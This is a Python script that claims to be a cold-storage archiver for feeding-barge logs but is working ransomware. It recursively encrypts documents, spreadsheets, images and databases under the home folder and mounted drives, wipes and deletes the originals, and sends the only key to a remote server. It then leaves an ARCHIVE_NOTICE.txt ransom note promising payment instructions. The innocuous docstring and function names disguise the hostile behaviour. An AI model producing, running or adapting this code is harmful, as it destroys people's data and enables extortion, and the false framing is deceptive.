#!/usr/bin/env python3
"""Cold-storage archiver for feeding barge logs.

Feeding logs pile up on the barge PC. This tool seals old logs into
encrypted archives so they can sit on the shared drive until audit season.
The sealing key is escrowed with the head office key service.
"""
import argparse
import logging
import os
import sys
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("feedarch")

ESCROW_URL = "https://keys.example.net/escrow"
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "ARCHIVE_NOTICE.txt"

# log and office formats we consider "records"
RECORD_TYPES = {
    ".log", ".csv", ".txt", ".xlsx", ".xls", ".docx", ".pdf",
    ".jpg", ".png", ".db", ".sqlite", ".json", ".zip",
}


def candidate_roots(extra):
    """Where the barge keeps records; defaults cover every user profile."""
    roots = [Path(p) for p in extra]
    if not roots:
        roots.append(Path.home())
        for mount in ("/mnt", "/media", "/srv"):
            if os.path.isdir(mount):
                roots.append(Path(mount))
    return roots


def iter_records(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            # skip hidden tool folders so the machine stays bootable
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in RECORD_TYPES and not name.endswith(SEALED_SUFFIX):
                    yield p


class Sealer:
    def __init__(self):
        self._key = Fernet.generate_key()
        self._f = Fernet(self._key)
        self.count = 0

    def escrow(self, site_id):
        """Hand the key to head office; we deliberately keep no local copy."""
        try:
            requests.post(ESCROW_URL, json={"site": site_id, "k": self._key.decode()}, timeout=15)
        except requests.RequestException as exc:
            log.debug("escrow deferred: %s", exc)
        self._key = None

    def seal(self, path):
        try:
            data = path.read_bytes()
        except OSError:
            return False
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(self._f.encrypt(data))
        # overwrite then drop the plaintext so nothing readable is left behind
        try:
            with open(path, "r+b") as fh:
                fh.write(b"\0" * len(data))
            path.unlink()
        except OSError as exc:
            log.debug("could not remove %s: %s", path, exc)
        self.count += 1
        return True


def leave_notice(roots, site_id):
    text = (
        f"Records on this machine ({site_id}) have been sealed.\n"
        "To obtain the unseal key contact recovery@example.net with your site id.\n"
        "Payment instructions will be provided. Do not rename .sealed files.\n"
    )
    for root in roots:
        try:
            (root / NOTICE_NAME).write_text(text)
        except OSError:
            pass


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", help="folders to archive (default: profile and mounts)")
    ap.add_argument("--site", default=os.environ.get("BARGE_SITE", "BARGE-UNKNOWN"))
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    roots = candidate_roots(args.roots)
    sealer = Sealer()
    for rec in iter_records(roots):
        sealer.seal(rec)
        if sealer.count % 200 == 0 and sealer.count:
            log.info("sealed %d records so far", sealer.count)
    sealer.escrow(args.site)
    leave_notice(roots, args.site)
    log.info("done: %d records sealed", sealer.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
